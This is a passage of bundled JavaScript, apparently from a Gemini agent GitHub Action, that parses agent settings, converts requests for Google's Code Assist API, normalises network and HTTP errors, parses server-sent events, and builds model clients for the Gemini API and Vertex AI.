 * Both the current nested names (`tools.discoveryCommand`, `mcp.allowed`, …) and the older flat
 * ones (`toolDiscoveryCommand`, `allowMCPServers`, …) are read; the nested one wins.
 *
 * `$VAR` and `${VAR}` in a server's `env` and `headers` expand from the workflow's environment
 * (settings-expand.ts). Only there: other values (`args`, `url`, the discovery and call commands)
 * are taken as written, so a secret never ends up on a command line where `ps` shows it; a server
 * that wants its token as an argument gets it from its `env` through `bash -c '… "$TOKEN"'`.
 */







/** Where the settings are read from when the `settings` input is empty. */
const DEFAULT_SETTINGS_PATH = '.gemini/settings.json';
/** The Action input (and CLI option) the settings come from: errors without a file name it. */
const SETTINGS_INPUT_NAME = 'settings';
/** Validates settings already parsed from JSON; see the module comment. */
function parseAgentSettings(raw, options) {
    const fail = (keyPath, message) => {
        const shown = keyPath.length === 0 ? '' : `${formatKeyPath(keyPath)}: `;
        throw new errors/* ConfigurationError */.j1(`${shown}${message}`, locationOf(options, keyPath));
    };
    if (typeof raw !== 'object' || raw === null || Array.isArray(raw)) {
        return fail([], 'expected a JSON object of settings');
    }
    const parsed = settings_schema/* settingsSchema */.dP.safeParse(raw);
    if (!parsed.success) {
        const issue = parsed.error.issues[0];
        const keyPath = (issue?.path ?? []).filter((step) => typeof step !== 'symbol');
        return fail(keyPath, (issue?.message ?? 'invalid value').replace(/^Invalid input: /, ''));
    }
    const value = parsed.data;
    const expander = (0,settings_expand/* createExpander */.k)({
        env: options.env,
        ...(options.forbiddenValues ? { forbiddenValues: options.forbiddenValues } : {}),
        fail,
    });
    const mcpServers = {};
    for (const [name, server] of Object.entries(value.mcpServers ?? {})) {
        const at = ['mcpServers', name];
        const problem = (0,settings_schema/* serverNameProblem */.Oi)(name);
        if (problem !== undefined)
            fail(at, problem);
        mcpServers[name] = (0,settings_schema/* checkServer */.i6)(server, {
            fail: (key, message) => fail([...at, ...key], message),
            expand: (text, key) => expander.expand(text, [...at, ...key]),
        });
    }
    const tools = value.tools ?? {};
    const settings = {
        mcpServers,
        source: options.source,
        expandedValues: expander.values(),
    };
    const allowed = value.mcp?.allowed ?? value.allowMCPServers;
    const excluded = value.mcp?.excluded ?? value.excludeMCPServers;
    const discoveryCommand = nonEmpty(tools.discoveryCommand ?? value.toolDiscoveryCommand);
    const callCommand = nonEmpty(tools.callCommand ?? value.toolCallCommand);
    const coreTools = tools.core ?? value.coreTools;
    const excludeTools = tools.exclude ?? value.excludeTools;
    if (allowed !== undefined)
        settings.mcpAllowed = allowed;
    if (excluded !== undefined)
        settings.mcpExcluded = excluded;
    if (discoveryCommand !== undefined)
        settings.discoveryCommand = discoveryCommand;
    if (callCommand !== undefined)
        settings.callCommand = callCommand;
    if (coreTools !== undefined)
        settings.coreTools = coreTools;
    if (excludeTools !== undefined)
        settings.excludeTools = excludeTools;
    const modelName = nonEmpty(value.model?.name)?.trim();
    if (modelName !== undefined) {
        if (/\s/.test(modelName)) {
            fail(['model', 'name'], `expected a model name without spaces, got ${JSON.stringify(modelName)}`);
        }
        settings.modelName = modelName;
    }
    if (value.telemetry !== undefined) {
        // The known keys only: the schema lets unknown ones through.
        const { enabled, target, otlpEndpoint, otlpProtocol, logPrompts, outfile, useCollector } = value.telemetry;
        settings.telemetry = {
            enabled,
            target,
            otlpEndpoint,
            otlpProtocol,
            logPrompts,
            outfile,
            useCollector,
        };
    }
    return settings;
}
/** `mcpServers.github.args[1]`. */
function formatKeyPath(keyPath) {
    return keyPath
        .map((step, index) => typeof step === 'number' ? `[${step}]` : index === 0 ? step : `.${step}`)
        .join('');
}
function nonEmpty(text) {
    return text === undefined || text.trim() === '' ? undefined : text;
}
function locationOf(options, keyPath) {
    if (options.text === undefined)
        return { input: options.source };
    const at = (0,json_text/* locateJsonPath */.Od)(options.text, keyPath);
    return { file: options.source, ...(at ?? {}) };
}
/**
 * The run's settings: from the `settings` input (inline JSON, or a file in the repository that
 * must exist), else `.gemini/settings.json` when there is one, else none.
 */
async function loadAgentSettings(options) {
    const { input } = options;
    const parseOptions = {
        env: options.env,
        ...(options.forbiddenValues ? { forbiddenValues: options.forbiddenValues } : {}),
    };
    if (input?.kind === 'inline') {
        return parseAgentSettings(input.settings, { ...parseOptions, source: SETTINGS_INPUT_NAME });
    }
    const relative = input?.path ?? DEFAULT_SETTINGS_PATH;
    const read = options.readFile ?? ((file) => (0,promises_.readFile)(file, 'utf8'));
    let text;
    try {
        text = await read(external_node_path_default().join(options.configDirectory, relative));
    }
    catch (error) {
        const code = error?.code;
        const missing = code === 'ENOENT' || code === 'ENOTDIR';
        if (input === undefined && missing)
            return EMPTY_SETTINGS;
        throw new errors/* ConfigurationError */.j1(`expected the settings file ${JSON.stringify(relative)} to exist in the repository; ${missing ? 'it was not found' : `it could not be read (${code ?? String(error)})`}.`, { input: SETTINGS_INPUT_NAME }, { cause: error });
    }
    const raw = (0,json_text/* parseJsonText */.lk)(text, relative);
    return parseAgentSettings(raw, { ...parseOptions, source: relative, text });
}


/***/ }),

/***/ 53123:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  z: () => (/* binding */ createContentGenerator)
});

// EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
var node = __webpack_require__(67964);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/model/errors.ts
var model_errors = __webpack_require__(87206);
;// CONCATENATED MODULE: ./src/model/code-assist-converter.ts


/** The fields of `GenerateContentConfig` that belong in `generationConfig` on the wire. */
const GENERATION_CONFIG_FIELDS = [
    'temperature',
    'topP',
    'topK',
    'candidateCount',
    'maxOutputTokens',
    'stopSequences',
    'responseLogprobs',
    'logprobs',
    'presencePenalty',
    'frequencyPenalty',
    'seed',
    'responseMimeType',
    'responseSchema',
    'responseJsonSchema',
    'routingConfig',
    'modelSelectionConfig',
    'responseModalities',
    'mediaResolution',
    'speechConfig',
    'audioTimestamp',
    'thinkingConfig',
];
function toCodeAssistRequest(request, ids) {
    const config = request.config;
    return {
        model: request.model,
        ...(ids.project !== undefined ? { project: ids.project } : {}),
        user_prompt_id: ids.promptId,
        request: dropUndefined({
            contents: toContents(request.contents),
            systemInstruction: config?.systemInstruction !== undefined ? toContent(config.systemInstruction) : undefined,
            cachedContent: config?.cachedContent,
            tools: config?.tools,
            toolConfig: config?.toolConfig,
            labels: config?.labels,
            safetySettings: config?.safetySettings,
            generationConfig: config ? toGenerationConfig(config) : undefined,
            session_id: ids.sessionId,
        }),
    };
}
function toGenerationConfig(config) {
    const out = {};
    for (const field of GENERATION_CONFIG_FIELDS) {
        if (config[field] !== undefined)
            out[field] = config[field];
    }
    return Object.keys(out).length > 0 ? out : undefined;
}
function dropUndefined(value) {
    return Object.fromEntries(Object.entries(value).filter(([, v]) => v !== undefined));
}
/** Normalises every form `contents` may take (string, part, parts, content, contents). */
function toContents(contents) {
    if (Array.isArray(contents)) {
        // Either Content[] or PartUnion[]: a list of parts is one user turn.
        if (contents.every((item) => isContent(item)))
            return contents.map((item) => toContent(item));
        return [{ role: 'user', parts: contents.map((item) => toPart(item)) }];
    }
    return [toContent(contents)];
}
function isContent(value) {
    return (typeof value === 'object' &&
        value !== null &&
        !Array.isArray(value) &&
        ('parts' in value || 'role' in value));
}
/** A string or part(s) becomes a user `Content`; a `Content` is kept as it is. */
function toContent(content) {
    if (isContent(content))
        return content;
    if (Array.isArray(content))
        return { role: 'user', parts: content.map(toPart) };
    return { role: 'user', parts: [toPart(content)] };
}
function toPart(part) {
    return typeof part === 'string' ? { text: part } : part;
}
function asRecord(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value)
        ? value
        : undefined;
}
/**
 * Unwraps a Code Assist answer (`{response: {...}, traceId}`) into a real `GenerateContentResponse`
 * (so its `text` and `functionCalls` getters work). An `{error: …}` object in a stream is the
 * server reporting a failure midway and becomes an HTTP-kind error with its code.
 */
function fromCodeAssistResponse(value) {
    const wrapper = asRecord(value);
    if (!wrapper) {
        throw new model_errors/* ModelRequestError */.j(`Code Assist sent a response that is not a JSON object: ${JSON.stringify(value)}`, { kind: 'invalid_response' });
    }
    const error = asRecord(wrapper['error']);
    if (error) {
        const code = typeof error['code'] === 'number' ? error['code'] : 500;
        const message = typeof error['message'] === 'string' ? error['message'] : JSON.stringify(error);
        throw new model_errors/* ModelRequestError */.j(`Code Assist reported an error (${code}): ${message}`, {
            kind: 'http',
            status: code,
        });
    }
    const inner = asRecord(wrapper['response']) ?? {};
    const response = Object.assign(new node/* GenerateContentResponse */.ii(), inner);
    response.candidates ??= [];
    if (typeof wrapper['traceId'] === 'string' && response.responseId === undefined) {
        response.responseId = wrapper['traceId'];
    }
    return response;
}

;// CONCATENATED MODULE: ./src/model/normalize-error.ts

/**
 * Turns whatever a transport threw into a `ModelRequestError`, so retry logic and exit codes do not
 * depend on the transport. Aborts are passed through untouched: a cancelled request is the caller's
 * decision, not a failure worth retrying.
 */
const RETRY_INFO_TYPE = 'type.googleapis.com/google.rpc.RetryInfo';
const QUOTA_FAILURE_TYPE = 'type.googleapis.com/google.rpc.QuotaFailure';
/**
 * Error codes of connections that could not be made at all: the name did not resolve, nothing
 * listened, no route, or the connection attempt timed out (Node's `net`, `dns` and undici's).
 */
const CONNECT_ERROR_CODES = new Set([
    'ENOTFOUND',
    'EAI_AGAIN',
    'ECONNREFUSED',
    'EHOSTUNREACH',
    'ENETUNREACH',
    'ENETDOWN',
    'ETIMEDOUT',
    'UND_ERR_CONNECT_TIMEOUT',
]);
/** Error codes of connections that broke once made (Node's `net` and undici's). */
const BROKEN_CONNECTION_CODES = new Set([
    'ECONNRESET',
    'ECONNABORTED',
    'EPIPE',
    'UND_ERR_SOCKET',
    'UND_ERR_CLOSED',
    'UND_ERR_HEADERS_TIMEOUT',
    'UND_ERR_BODY_TIMEOUT',
]);
const NETWORK_ERROR_CODES = new Set([...CONNECT_ERROR_CODES, ...BROKEN_CONNECTION_CODES]);
/** True for `AbortError`s, whether a DOMException from fetch or an Error named so. */
function isAbortError(error) {
    return (typeof error === 'object' &&
        error !== null &&
        'name' in error &&
        (error.name === 'AbortError' || error.name === 'TimeoutError'));
}
function errorCode(error) {
    if (typeof error === 'object' && error !== null && 'code' in error) {
        return typeof error.code === 'string' ? error.code : undefined;
    }
    return undefined;
}
/** True when the error (or one of its causes) is a failed or broken connection. */
function isNetworkError(error) {
    let current = error;
    for (let depth = 0; depth < 5 && current !== undefined && current !== null; depth++) {
        const code = errorCode(current);
        if (code !== undefined && NETWORK_ERROR_CODES.has(code))
            return true;
        // undici reports every connection failure as `TypeError: fetch failed` and a body that broke
        // off as `TypeError: terminated`, with the system error (if any) as the cause.
        if (current instanceof TypeError &&
            (current.message === 'fetch failed' || current.message === 'terminated')) {
            return true;
        }
        current = current instanceof Error ? current.cause : undefined;
    }
    return false;
}
/**
 * True when a network error means a connection was made and then broke (worth the longer
 * back-off), false when none could be made: a known connect failure, or undici's `fetch failed`
 * over anything else (a TLS certificate refused, a port fetch will not use, a proxy).
 */
function isBrokenConnection(error) {
    let current = error;
    let broken = false;
    for (let depth = 0; depth < 5 && current !== undefined && current !== null; depth++) {
        const code = errorCode(current);
        if (code !== undefined && CONNECT_ERROR_CODES.has(code))
            return false;
        if (code !== undefined && BROKEN_CONNECTION_CODES.has(code))
            broken = true;
        if (current instanceof TypeError && current.message === 'terminated')
            broken = true;
        current = current instanceof Error ? current.cause : undefined;
    }
    return broken;
}
/** Parses a protobuf duration such as `"3s"` or `"0.5s"` into milliseconds. */
function parseRetryDelay(value) {
    if (typeof value !== 'string')
        return undefined;
    const match = /^\s*(\d+(?:\.\d+)?)s\s*$/.exec(value);
    if (!match?.[1])
        return undefined;
    return Math.round(Number(match[1]) * 1000);
}
function normalize_error_asRecord(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value)
        ? value
        : undefined;
}
/**
 * Reads a Google API error body (`{error: {code, message, status, details: [...]}}`), also when it
 * is wrapped in an array (as some endpoints answer). Returns undefined for anything else.
 */
function parseGoogleErrorBody(body) {
    let parsed = body;
    if (typeof parsed === 'string') {
        try {
            parsed = JSON.parse(parsed);
        }
        catch {
            return undefined;
        }
    }
    if (Array.isArray(parsed))
        parsed = parsed[0];
    const error = normalize_error_asRecord(normalize_error_asRecord(parsed)?.['error']);
    if (!error)
        return undefined;
    let retryDelayMs;
    const quotaIds = [];
    const details = error['details'];
    if (Array.isArray(details)) {
        for (const detail of details) {
            const record = normalize_error_asRecord(detail);
            if (record?.['@type'] === RETRY_INFO_TYPE) {
                retryDelayMs = parseRetryDelay(record['retryDelay']);
            }
            if (record?.['@type'] === QUOTA_FAILURE_TYPE && Array.isArray(record['violations'])) {
                for (const violation of record['violations']) {
                    const quotaId = normalize_error_asRecord(violation)?.['quotaId'];
                    if (typeof quotaId === 'string')
                        quotaIds.push(quotaId);
                }
            }
        }
    }
    return {
        message: typeof error['message'] === 'string' ? error['message'] : undefined,
        status: typeof error['status'] === 'string' ? error['status'] : undefined,
        code: typeof error['code'] === 'number' ? error['code'] : undefined,
        retryDelayMs,
        quotaIds,
    };
}
/** Builds the error for an HTTP error answer, from its status and raw body text. */
function httpStatusError(status, bodyText, options = {}) {
    const body = parseGoogleErrorBody(bodyText);
    const detail = body?.message ?? (bodyText.trim().slice(0, 500) || 'no details');
    const statusName = body?.status ? ` ${body.status}` : '';
    return new model_errors/* ModelRequestError */.j(`The model API answered HTTP ${status}${statusName}: ${detail}`, {
        kind: 'http',
        status,
        ...(body?.status !== undefined ? { apiStatus: body.status } : {}),
        ...(body?.message !== undefined ? { apiMessage: body.message } : {}),
        ...(body !== undefined && body.quotaIds.length > 0 ? { quotaIds: body.quotaIds } : {}),
        ...(body?.retryDelayMs !== undefined ? { retryDelayMs: body.retryDelayMs } : {}),
        cause: options.cause,
    });
}
function apiErrorStatus(error) {
    if (error instanceof Error && 'status' in error && typeof error.status === 'number') {
        return error.status;
    }
    return undefined;
}
/**
 * Normalises an error thrown by a transport. Returns the error to throw: a `ModelRequestError`, or
 * the original error for aborts and for errors that are not the model API's (bugs stay visible).
 */
function normalizeModelError(error, context = {}) {
    if (error instanceof model_errors/* ModelRequestError */.j || isAbortError(error))
        return error;
    const status = apiErrorStatus(error);
    if (status !== undefined && error instanceof Error) {
        // The SDK's ApiError carries the response body (JSON text) as its message.
        return httpStatusError(status, error.message, { cause: error });
    }
    const inStream = context.chunksReceived !== undefined;
    const message = error instanceof Error ? error.message : String(error);
    if (inStream && (context.chunksReceived ?? 0) > 0) {
        return new model_errors/* ModelRequestError */.j(`The model's streamed response broke off after ${context.chunksReceived ?? 0} chunk(s): ${message}`, { kind: 'stream_cut', cause: error });
    }
    if (isNetworkError(error)) {
        return isBrokenConnection(error)
            ? new model_errors/* ModelRequestError */.j(`The connection to the model API failed: ${describeNetworkError(error)}`, { kind: 'network', cause: error })
            : new model_errors/* ModelRequestError */.j(`Could not connect to the model API: ${describeNetworkError(error)}`, {
                kind: 'unreachable',
                cause: error,
            });
    }
    if (inStream) {
        return new model_errors/* ModelRequestError */.j(`The model's streamed response broke off: ${message}`, {
            kind: 'stream_cut',
            cause: error,
        });
    }
    return error;
}
function describeNetworkError(error) {
    const parts = [];
    let current = error;
    for (let depth = 0; depth < 5 && current instanceof Error; depth++) {
        const code = errorCode(current);
        parts.push(code && !current.message.includes(code) ? `${current.message} (${code})` : current.message);
        current = current.cause;
    }
    return parts.join(': ');
}

;// CONCATENATED MODULE: ./src/model/sse.ts


/**
 * Server-sent events as the Gemini APIs send them: each event is one or more `data: ` lines holding
 * one JSON object, ended by a blank line. Lines end in `\n`, `\r\n` or `\r`, and a line ending may
 * be split across network chunks.
 *
 * Anything else on a line is a protocol error (a proxy's HTML page, a different API), reported
 * rather than skipped so the user sees why the reply was unusable. A stream that ends inside an
 * event, or whose connection breaks, is a `stream_cut`. Aborts propagate unchanged.
 */
async function* parseSse(source) {
    const decoder = new TextDecoder();
    const iterator = source[Symbol.asyncIterator]();
    const lines = new LineSplitter();
    let data = [];
    let events = 0;
    let finished = false;
    const eventFromLine = (line) => {
        if (line.startsWith('data:')) {
            data.push(line.slice(line.startsWith('data: ') ? 6 : 5));
            return undefined;
        }
        if (line !== '') {
            throw new model_errors/* ModelRequestError */.j(`The model API sent a line that is not part of a server-sent event: ${JSON.stringify(line.slice(0, 200))}`, { kind: 'invalid_response' });
        }
        if (data.length === 0)
            return undefined;
        const text = data.join('\n');
        data = [];
        try {
            return JSON.parse(text);
        }
        catch (error) {
            throw new model_errors/* ModelRequestError */.j(`The model API sent an event that is not JSON: ${JSON.stringify(text.slice(0, 200))}`, { kind: 'invalid_response', cause: error });
        }
    };
    try {
        for (;;) {
            let next;
            try {
                next = await iterator.next();
            }
            catch (error) {
                finished = true;
                if (isAbortError(error) || error instanceof model_errors/* ModelRequestError */.j)
                    throw error;
                const message = error instanceof Error ? error.message : String(error);
                throw new model_errors/* ModelRequestError */.j(`The model's streamed response broke off after ${events} event(s): ${message}`, { kind: 'stream_cut', cause: error });
            }
            if (next.done) {
                finished = true;
                break;
            }
            const text = typeof next.value === 'string' ? next.value : decoder.decode(next.value, { stream: true });
            for (const line of lines.push(text)) {
                const event = eventFromLine(line);
                if (event !== undefined) {
                    events++;
                    yield event;
                }
            }
        }
        for (const line of lines.end(decoder.decode())) {
            const event = eventFromLine(line);
            if (event !== undefined) {
                events++;
                yield event;
            }
        }
        if (lines.pending !== '' || data.length > 0) {
            throw new model_errors/* ModelRequestError */.j(`The model's streamed response ended in the middle of an event (after ${events} complete event(s)).`, { kind: 'stream_cut' });
        }
    }
    finally {
        // The consumer stopped early (or a line was bad): release the connection.
        if (!finished)
            await iterator.return?.();
    }
}
/** Splits text into lines on `\n`, `\r\n` and `\r`, holding back a `\r` that may precede `\n`. */
class LineSplitter {
    pending = '';
    push(text) {
        this.pending += text;
        return this.take(false);
    }
    /** Flushes what is left; an unterminated last line stays in `pending`. */
    end(text) {
        this.pending += text;
        return this.take(true);
    }
    take(final) {
        const lines = [];
        let start = 0;
        const text = this.pending;
        for (let i = 0; i < text.length; i++) {
            const char = text[i];
            if (char !== '\n' && char !== '\r')
                continue;
            if (char === '\r' && i === text.length - 1 && !final)
                break;
            lines.push(text.slice(start, i));
            if (char === '\r' && text[i + 1] === '\n')
                i++;
            start = i + 1;
        }
        this.pending = text.slice(start);
        return lines;
    }
}

// EXTERNAL MODULE: ./src/platform/version.ts + 1 modules
var version = __webpack_require__(16138);
;// CONCATENATED MODULE: ./src/model/user-agent.ts

/** The `User-Agent` every model request carries, so server-side logs can tell our traffic apart. */
function modelUserAgent() {
    return `GeminiAgent/${version/* VERSION */.x} (${process.platform}; ${process.arch})`;
}

;// CONCATENATED MODULE: ./src/model/code-assist-generator.ts







const CODE_ASSIST_DEFAULT_BASE_URL = 'https://cloudcode-pa.googleapis.com';
const API_VERSION = 'v1internal';
/** The body `loadCodeAssist` expects; it answers with the account's `cloudaicompanionProject`. */
const LOAD_CODE_ASSIST_METADATA = {
    ideType: 'IDE_UNSPECIFIED',
    platform: 'PLATFORM_UNSPECIFIED',
    pluginType: 'GEMINI',
};
/**
 * The Code Assist transport (`cloudcode-pa.googleapis.com/v1internal`), the one Gemini CLI uses
 * for "Login with Google": OAuth bearer, the genai request nested under `request`, SSE streaming.
 */
class CodeAssistContentGenerator {
    options;
    baseUrl;
    fetchFn;
    projectPromise;
    constructor(options) {
        this.options = options;
        this.baseUrl = (options.baseUrl ?? CODE_ASSIST_DEFAULT_BASE_URL).replace(/\/+$/, '');
        this.fetchFn = options.fetch ?? globalThis.fetch;
        if (options.project)
            this.projectPromise = Promise.resolve(options.project);
    }
    async generateContent(request, promptId) {
        const signal = request.config?.abortSignal;
        const body = await this.generateBody(request, promptId, signal);
        const response = await this.post('generateContent', body, signal);
        let json;
        try {
            json = await response.json();
        }
        catch (error) {
            throw normalizeModelError(error, { chunksReceived: 0 });
        }
        return fromCodeAssistResponse(json);
    }
    async generateContentStream(request, promptId) {
        const signal = request.config?.abortSignal;
        const body = await this.generateBody(request, promptId, signal);
        const response = await this.post('streamGenerateContent', body, signal, { alt: 'sse' });
        if (!response.body) {
            throw new model_errors/* ModelRequestError */.j('Code Assist answered the stream request without a body.', {
                kind: 'stream_cut',
            });
        }
        return unwrapEvents(parseSse(response.body));
    }
    async countTokens(request) {
        const body = {
            request: { model: `models/${request.model}`, contents: toContents(request.contents) },
        };
        const response = await this.post('countTokens', body, request.config?.abortSignal);
        let json;
        try {
            json = (await response.json());
        }
        catch (error) {
            throw normalizeModelError(error, { chunksReceived: 0 });
        }
        return Object.assign(new node/* CountTokensResponse */.nL(), {
            totalTokens: typeof json.totalTokens === 'number' ? json.totalTokens : 0,
        });
    }
    /** The Cloud project of this account, asked once from `loadCodeAssist` when not configured. */
    project(signal) {
        if (!this.projectPromise) {
            const pending = this.loadProject(signal);
            this.projectPromise = pending;
            // A failed lookup (network, abort) is asked again next time rather than cached.
            pending.catch(() => {
                if (this.projectPromise === pending)
                    this.projectPromise = undefined;
            });
        }
        return this.projectPromise;
    }
    async loadProject(signal) {
        const response = await this.post('loadCodeAssist', { metadata: LOAD_CODE_ASSIST_METADATA }, signal);
        const json = (await response.json());
        const project = json.cloudaicompanionProject;
        if (typeof project === 'string' && project !== '')
            return project;
        throw new errors/* AuthenticationError */.v3('Code Assist has no Google Cloud project for this account; set GOOGLE_CLOUD_PROJECT to a project with the Gemini for Google Cloud API enabled.', { input: 'GOOGLE_CLOUD_PROJECT' });
    }
    async generateBody(request, promptId, signal) {
        const project = await this.project(signal);
        return toCodeAssistRequest(request, {
            promptId,
            project,
            ...(this.options.sessionId !== undefined ? { sessionId: this.options.sessionId } : {}),
        });
    }
    async post(method, body, signal, query = {}) {
        const url = new URL(`${this.baseUrl}/${API_VERSION}:${method}`);
        for (const [key, value] of Object.entries(query))
            url.searchParams.set(key, value);
        const headers = {
            ...this.options.headers,
            ...(await this.authHeaders(url.toString())),
            'Content-Type': 'application/json',
            'User-Agent': modelUserAgent(),
        };
        let response;
        try {
            response = await this.fetchFn(url, {
                method: 'POST',
                headers,
                body: JSON.stringify(body),
                ...(signal ? { signal } : {}),
            });
        }
        catch (error) {
            throw normalizeModelError(error);
        }
        if (!response.ok) {
            let text = '';
            try {
                text = await response.text();
            }
            catch {
                // The status alone still says what happened.
            }
            throw httpStatusError(response.status, text);
        }
        return response;
    }
    async authHeaders(url) {
        const credentials = this.options.credentials;
        try {
            if ('getRequestHeaders' in credentials) {
                const headers = await credentials.getRequestHeaders(url);
                const out = {};
                if (headers instanceof Headers) {
                    headers.forEach((value, key) => (out[key === 'authorization' ? 'Authorization' : key] = value));
                }
                else {
                    Object.assign(out, headers);
                }
                return out;
            }
            const token = await credentials.getAccessToken();
            const value = typeof token === 'string' ? token : token?.token;
            if (!value)
                throw new Error('no access token was returned');
            return { Authorization: `Bearer ${value}` };
        }
        catch (error) {
            throw new errors/* AuthenticationError */.v3(`Could not get Google OAuth credentials for Code Assist (${(0,errors/* errorMessage */.gJ)(error)}). Sign in with \`gcloud auth application-default login\` or set GOOGLE_APPLICATION_CREDENTIALS.`, undefined, { cause: error });
        }
    }
}
async function* unwrapEvents(events) {
    for await (const event of events)
        yield fromCodeAssistResponse(event);
}

;// CONCATENATED MODULE: ./src/model/genai-generator.ts



/** The API versions our request shapes are written for; `@google/genai` 3.x defaults to `v1`. */
const GEMINI_API_VERSION = 'v1beta';
const VERTEX_API_VERSION = 'v1beta1';
/**
 * A `ContentGenerator` over `@google/genai`: the Gemini API with an API key, or Vertex AI. Errors
 * come out as `ModelRequestError`s; aborts (`config.abortSignal`) as the `AbortError` they are.
 */
function createGenaiContentGenerator(target, options = {}) {
    const vertex = target.type === 'vertex-ai';
    const apiVersion = vertex ? VERTEX_API_VERSION : GEMINI_API_VERSION;
    const httpOptions = {
        apiVersion,
        headers: { ...options.headers, 'User-Agent': modelUserAgent() },
        // Retries are ours (see retry.ts), so that every transport retries alike.
    };
    if (target.baseUrl)
        httpOptions.baseUrl = target.baseUrl;
    if (options.fetch)
        httpOptions.fetch = options.fetch;
    const genaiOptions = { vertexai: vertex, apiVersion, httpOptions };
    if (target.type === 'gemini-api-key') {
        genaiOptions.apiKey = target.apiKey;
    }
    else {
        if (target.project)
            genaiOptions.project = target.project;
        if (target.location)
            genaiOptions.location = target.location;
        if (target.apiKey && !(target.project && target.location))
            genaiOptions.apiKey = target.apiKey;
        // The project is known: Google's auth library would otherwise look it up, which for an
        // external_account file (Workload Identity Federation) means seconds of token exchanges and
        // metadata-server probes before the first request.
        const googleAuthOptions = {
            ...(target.project ? { projectId: target.project } : {}),
            ...options.googleAuthOptions,
        };
        if (Object.keys(googleAuthOptions).length > 0)
            genaiOptions.googleAuthOptions = googleAuthOptions;
    }
    const client = new node/* GoogleGenAI */.M4(genaiOptions);
    return new GenaiContentGenerator(client);
}
class GenaiContentGenerator {
    client;
    constructor(client) {
        this.client = client;
    }
    async generateContent(request, _promptId) {
        const link = linkSignal(request.config?.abortSignal);
        try {
            return await this.client.models.generateContent(withSignal(request, link.signal));
        }
        catch (error) {
            throw normalizeModelError(error);
        }
        finally {
            link.release();
        }
    }
    async generateContentStream(request, _promptId) {
        const link = linkSignal(request.config?.abortSignal);
        let stream;
        try {
            stream = await this.client.models.generateContentStream(withSignal(request, link.signal));
        }
        catch (error) {
            link.release();
            throw normalizeModelError(error);
        }
        return normalizedStream(stream, link);
    }
    async countTokens(request) {
        const link = linkSignal(request.config?.abortSignal);
        try {
            return await this.client.models.countTokens(withSignal(request, link.signal));
        }
        catch (error) {
            throw normalizeModelError(error);
        }
        finally {
            link.release();
        }
    }
}
/**
 * A signal of the request's own, aborted with the caller's. The SDK leaves an abort listener on
 * the signal it is given for every request that succeeds; a session passes one signal to all its
 * requests, which would collect a listener per request (and Node warns of a leak after ten).
 * Linked this way, the caller's signal holds one listener per request in flight, removed after.
 */
function linkSignal(caller) {
    if (!caller)
        return { signal: undefined, release: () => undefined };
    const controller = new AbortController();
    const onAbort = () => {
        controller.abort(caller.reason);
    };
    if (caller.aborted)
        onAbort();
    else
        caller.addEventListener('abort', onAbort, { once: true });
    return {
        signal: controller.signal,
        release: () => {
            caller.removeEventListener('abort', onAbort);
        },
    };
}
function withSignal(request, signal) {
    return signal === undefined
        ? request
        : { ...request, config: { ...request.config, abortSignal: signal } };
}
async function* normalizedStream(stream, link) {
    let chunksReceived = 0;
    try {
        for await (const chunk of stream) {
            chunksReceived++;
            yield chunk;
        }
    }
    catch (error) {
        throw normalizeModelError(error, { chunksReceived });
    }
    finally {
        link.release();
    }
}

// EXTERNAL MODULE: ./src/model/model-calls.ts
var model_calls = __webpack_require__(89584);
;// CONCATENATED MODULE: ./src/model/model-endpoint.ts
/**
 * Where a transport sends its requests, and which environment variable changes that, so a run
 * that cannot reach the model API can say in one line what it tried and what to check.
 */


/** The endpoint of a transport, with the defaults `@google/genai` and Code Assist use. */
function modelEndpoint(auth) {
    const [variable, fallback] = (() => {
        switch (auth.type) {
            case 'gemini-api-key':
                return ['GOOGLE_GEMINI_BASE_URL', 'https://generativelanguage.googleapis.com'];
            case 'vertex-ai':
                return [
                    'GOOGLE_VERTEX_BASE_URL',
                    auth.location === undefined || auth.location === 'global' || auth.project === undefined
                        ? 'https://aiplatform.googleapis.com'
                        : `https://${auth.location}-aiplatform.googleapis.com`,
                ];
            case 'code-assist':
                return ['CODE_ASSIST_ENDPOINT', CODE_ASSIST_DEFAULT_BASE_URL];
        }
    })();
    return auth.baseUrl === undefined
        ? { url: fallback, variable, fromVariable: false }
        : { url: auth.baseUrl, variable, fromVariable: true };
}
/** The innermost message of an error's causes: the system error (`getaddrinfo ENOTFOUND …`). */
function rootCause(error) {
    let current = error;
    let message = error.message;
    for (let depth = 0; depth < 5 && current instanceof Error; depth++) {
        message = current.message;
        current = current.cause;
    }
    return message;
}
/** The one line a run ends with when no connection to the model API could be made. */
function unreachableMessage(error, endpoint) {
    const where = endpoint.fromVariable
        ? `${endpoint.url} (set by ${endpoint.variable})`
        : `${endpoint.url} (the default; ${endpoint.variable} changes it)`;
    const check = endpoint.fromVariable
        ? `Check that ${endpoint.variable} names a host that is up and reachable from here, and the network (DNS, proxy, firewall).`
        : `Check the network of this machine or runner (DNS, proxy, firewall), or set ${endpoint.variable} to a reachable endpoint.`;
    const cause = error.cause instanceof Error ? rootCause(error.cause) : error.message;
    return `The model API host could not be reached at ${where}: ${cause}. ${check}`;
}
/**
 * Rewrites a failed connection's error (after the retries below gave up) into
 * `unreachableMessage`; every other error passes through unchanged.
 */
function explainUnreachable(generator, endpoint) {
    const explain = (error) => error instanceof model_errors/* ModelRequestError */.j && error.kind === 'unreachable'
        ? new model_errors/* ModelRequestError */.j(unreachableMessage(error, endpoint), {
            kind: 'unreachable',
            cause: error,
        })
        : error;
    const rethrow = (error) => {
        throw explain(error);
    };
    return {
        generateContent: (request, promptId) => generator.generateContent(request, promptId).catch(rethrow),
        generateContentStream: (request, promptId) => generator.generateContentStream(request, promptId).catch(rethrow),
        countTokens: (request) => generator.countTokens(request).catch(rethrow),
    };
}

// EXTERNAL MODULE: ./src/model/recording.ts + 1 modules
var recording = __webpack_require__(26602);
// EXTERNAL MODULE: ./src/model/retry.ts + 1 modules
var retry = __webpack_require__(92638);
;// CONCATENATED MODULE: ./src/model/create-content-generator.ts






const CLOUD_PLATFORM_SCOPE = 'https://www.googleapis.com/auth/cloud-platform';
async function defaultCodeAssistCredentials() {
    // Loaded on demand: only Code Assist users pay for google-auth-library at startup.
    const { GoogleAuth } = await Promise.resolve(/* import() */).then(__webpack_require__.t.bind(__webpack_require__, 492, 23));
